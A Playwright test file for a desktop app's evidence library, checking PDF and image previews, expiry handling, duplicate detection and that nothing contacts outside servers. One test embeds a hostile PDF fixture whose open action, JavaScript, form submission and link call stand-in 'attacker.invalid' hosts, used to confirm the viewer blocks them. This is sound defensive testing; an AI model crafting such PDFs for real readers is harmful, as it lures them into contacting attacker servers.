/** The evidence library: one file serves many, is previewed under the window's content policy, runs out, is found. */
import { writeFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { setUpFactory } from '../stage/factory.ts';
import { words } from '../stage/words.ts';
import { accessible, expect, LOOKS, picture, settled, test } from './desk.ts';

const NAMES = { permit: '排污许可证 Discharge permit.pdf', photo: 'gate 2.png', phone: 'IMG_0042.HEIC' };
const ISSUER = '深圳市生态环境局';

for (const [language, theme] of LOOKS) {
  const look = `evidence-${language}-${theme}`;

  test(`one file serves many, ${language}`, async ({ page, bridge, folder }) => {
    const say = words(language);
    await bridge.invoke('preferences_set', { change: { language, theme } });
    await setUpFactory(bridge, language);
    const { value } = await bridge.invoke<{ value: { id: string } }>('finding_create', { finding: FINDING });
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto(bridge.url);
    await go(page, '/library/evidence');
    await lookAt(page, `${look}-empty`);

    const permit = folder.at(NAMES.permit);
    await bridge.next({ save: permit });
    const made = await bridge.invoke<{ id: string }>('plan_paper', {
      request: { languages: ['en', 'zh-Hans'], paper: 'a4', layout: 'table', customer: null },
    });
    await bridge.invoke('paper_save', { id: made.id });
    const photo = folder.at(NAMES.photo);
    writeFileSync(photo, await page.screenshot({ clip: { x: 0, y: 0, width: 900, height: 500 } }));
    const phone = folder.at(NAMES.phone);
    writeFileSync(phone, Buffer.concat([Buffer.from('\0\0\0\x24ftypheic\0\0\0\0mif1heic'), Buffer.alloc(3_000, 7)]));
    await bridge.next({ open: [permit, photo, phone] });
    await page.getByRole('button', { name: say('evidence-add') }).first().click();
    const rows = page.getByRole('grid', { name: say('evidence-table-label') }).getByRole('row');
    await expect(rows).toHaveCount(4);

    await rows.filter({ hasText: NAMES.permit }).click();
    const panel = page.getByRole('region', { name: say('evidence-panel-label', { name: NAMES.permit }) });
    await drawn(page, 1);
    await panel.getByLabel(say('evidence-field-document_kind')).selectOption('permit');
    await panel.getByLabel(say('evidence-field-issuer')).fill(ISSUER);
    await panel.getByLabel(say('evidence-field-document_number')).fill('914403-17');
    await panel.getByLabel(say('evidence-field-document_number')).blur();
    await expect(panel.getByRole('heading', { name: say('evidence-kind-permit') })).toBeVisible();
    await lookAt(page, `${look}-pdf`);
    const id = new URL(page.url()).hash.split('/').at(-1)?.split('?')[0] ?? '';
    await bridge.invoke('evidence_set', { evidenceId: id, field: 'expires_on', value: inDays(20) });
    await page.reload();
    await drawn(page, 1);

    await panel.getByRole('button', { name: say('evidence-open-full') }).click();
    const full = page.getByRole('dialog');
    await drawn(page, 1, full);
    await lookAt(page, `${look}-full`);
    await page.keyboard.press('Escape');

    await panel.getByRole('button', { name: say('evidence-use-add') }).click();
    await page.getByRole('dialog').getByRole('textbox').fill('A-001');
    await expect(page.getByRole('dialog').getByRole('button', { name: /A-001/ })).toBeVisible();
    await lookAt(page, `${look}-picker`);
    await page.getByRole('dialog').getByRole('button', { name: /A-001/ }).click();
    await expect(panel.getByRole('link', { name: /A-001/ })).toBeVisible();

    await go(page, '/library/evidence');
    await rows.filter({ hasText: NAMES.photo }).click();
    await expect(page.getByRole('img', { name: NAMES.photo })).toBeVisible();
    await lookAt(page, `${look}-photo`);
    await page.keyboard.press('Escape');
    await rows.filter({ hasText: NAMES.phone }).click();
    await expect(page.getByText(say('evidence-shown-heic'))).toBeVisible();
    await lookAt(page, `${look}-heic`);
    await page.keyboard.press('Escape');
    await lookAt(page, `${look}-list`);

    // The same bytes under another name.
    const again = folder.at('copy.pdf');
    const saved = folder.at('saved.pdf');
    await bridge.next({ save: saved });
    await bridge.invoke('evidence_save', { evidenceId: id });
    await bridge.next({ save: again });
    await bridge.invoke('evidence_save', { evidenceId: id });
    await bridge.next({ open: [again] });
    await page.getByRole('button', { name: say('evidence-add') }).click();
    await expect(
      page.getByText(say('evidence-known-library', { given: 'copy.pdf', known: NAMES.permit })),
    ).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(rows).toHaveCount(4);

    await go(page, `/actions/${value.id}`);
    const files = page.getByRole('region', { name: say('actions-evidence-of-finding') });
    await files.getByRole('button', { name: say('evidence-pick') }).click();
    const pick = page.getByRole('dialog');
    await expect(pick.getByRole('checkbox', { name: NAMES.permit })).toBeDisabled();
    await pick.getByRole('checkbox', { name: NAMES.photo }).check();
    await lookAt(page, `${look}-choose`);
    await pick.getByRole('button', { name: say('evidence-pick-use', { count: 1 }) }).click();
    await expect(files.getByText(NAMES.photo)).toBeVisible();

    await go(page, '/');
    // It is to be renewed, and does not run out this week.
    const due = page.getByRole('region', { name: say('home-column-week') });
    await expect(due.getByRole('link', { name: say('home-column-later', { count: 1 }) })).toBeVisible();
    await expect(due.getByRole('link', { name: new RegExp(NAMES.permit) })).toHaveCount(0);
    await lookAt(page, `${look}-home`);

    await page.keyboard.press('Control+k');
    await page.getByRole('combobox', { name: say('search-title') }).fill('生态环境');
    await expect(page.getByRole('option', { name: new RegExp(NAMES.permit) })).toBeVisible();
    await page.keyboard.press('Enter');
    await expect(panel).toBeVisible();
    const outside = asked.filter((url) => !url.startsWith(bridge.url) && !/^(data|blob):/.test(url));
    expect(outside, 'nothing was asked of anybody else').toEqual([]);
  });
}

test('a hostile PDF reaches nobody, and one with Chinese codes is read', async ({ page, bridge, folder }) => {
  await bridge.invoke('preferences_set', { change: { language: 'en', theme: 'light' } });
  await setUpFactory(bridge, 'en');
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  const hostile = folder.at('hostile.pdf');
  writeFileSync(hostile, HOSTILE);
  const broken = folder.at('broken.pdf');
  writeFileSync(broken, '%PDF-1.7\nnothing of a document');
  await bridge.next({ open: [hostile, broken] });
  await bridge.invoke('evidence_choose', { targetKind: null, targetId: '' });
  await page.goto(bridge.url);
  await go(page, '/library/evidence');
  await page.getByRole('row').filter({ hasText: 'hostile.pdf' }).click();
  await drawn(page, 1);
  await settled(page);
  await picture(page, 'evidence-hostile');
  const dark = await page.locator('canvas').evaluate((element) => {
    const canvas = element as HTMLCanvasElement;
    const data = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
    let count = 0;
    for (let at = 0; at < data.length; at += 4) if ((data[at] ?? 255) < 90) count += 1;
    return count;
  });
  expect(dark, 'the text of the page is drawn').toBeGreaterThan(50);
  await page.getByRole('row').filter({ hasText: 'broken.pdf' }).click();
  await expect(page.getByText(words('en')('evidence-shown-pdf-failed'))).toBeVisible();
  expect(asked.filter((url) => url.includes('attacker') || !url.startsWith(bridge.url)).filter((url) => !/^(data|blob):/.test(url))).toEqual([]);
});

/** Opens an address, runs a script, submits a form: whatever a reader may be talked into. Its font is named, not there. */
const HOSTILE = `%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(http://attacker.invalid/open)>>/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.launchURL\\('http://attacker.invalid/js'\\))>>]>>>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R/F2 8 0 R>>>>/AA<</O<</S/SubmitForm/F(http://attacker.invalid/form)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(http://attacker.invalid/link)>>>>]>> endobj
4 0 obj <</Length 90>> stream
BT /F2 24 Tf 20 120 Td (Press here) Tj ET BT /F1 24 Tf 20 60 Td <C5C5CEDBD0EDBFC9D6A4> Tj ET
endstream endobj
5 0 obj <</Type/Font/Subtype/Type0/BaseFont/SimSun/Encoding/GBK-EUC-H/DescendantFonts[6 0 R]>> endobj
6 0 obj <</Type/Font/Subtype/CIDFontType0/BaseFont/SimSun/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/FontDescriptor 7 0 R>> endobj
7 0 obj <</Type/FontDescriptor/FontName/SimSun/Flags 4/Ascent 859/Descent -141/CapHeight 683/ItalicAngle 0/StemV 80/FontBBox[0 -141 1000 859]>> endobj
8 0 obj <</Type/Font/Subtype/Type1/BaseFont/Helvetica>> endobj
trailer <</Root 1 0 R>>
%%EOF
`;

const FINDING = {
  question: null,
  provision: 'RBA B1.2',
  description: 'The way to the second exit is blocked by pallets. 通往二号出口的通道被托盘堵住。',
  severity: 'major',
  source: 'audit',
  discovered_on: '2026-01-05',
};

function inDays(days: number): string {
  return new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
}

/** A page of a PDF stands on its canvas. */
async function drawn(page: Page, number: number, within: Pick<Page, 'locator'> = page): Promise<void> {
  await expect(within.locator(`canvas[data-drawn="${number}"]`).first()).toBeVisible();
}

async function go(page: Page, route: string): Promise<void> {
  await page.evaluate((to) => window.location.assign(`#${to}`), route);
  await settled(page);
}

async function lookAt(page: Page, name: string): Promise<void> {
  await settled(page);
  await picture(page, name);
  await accessible(page, name);
}
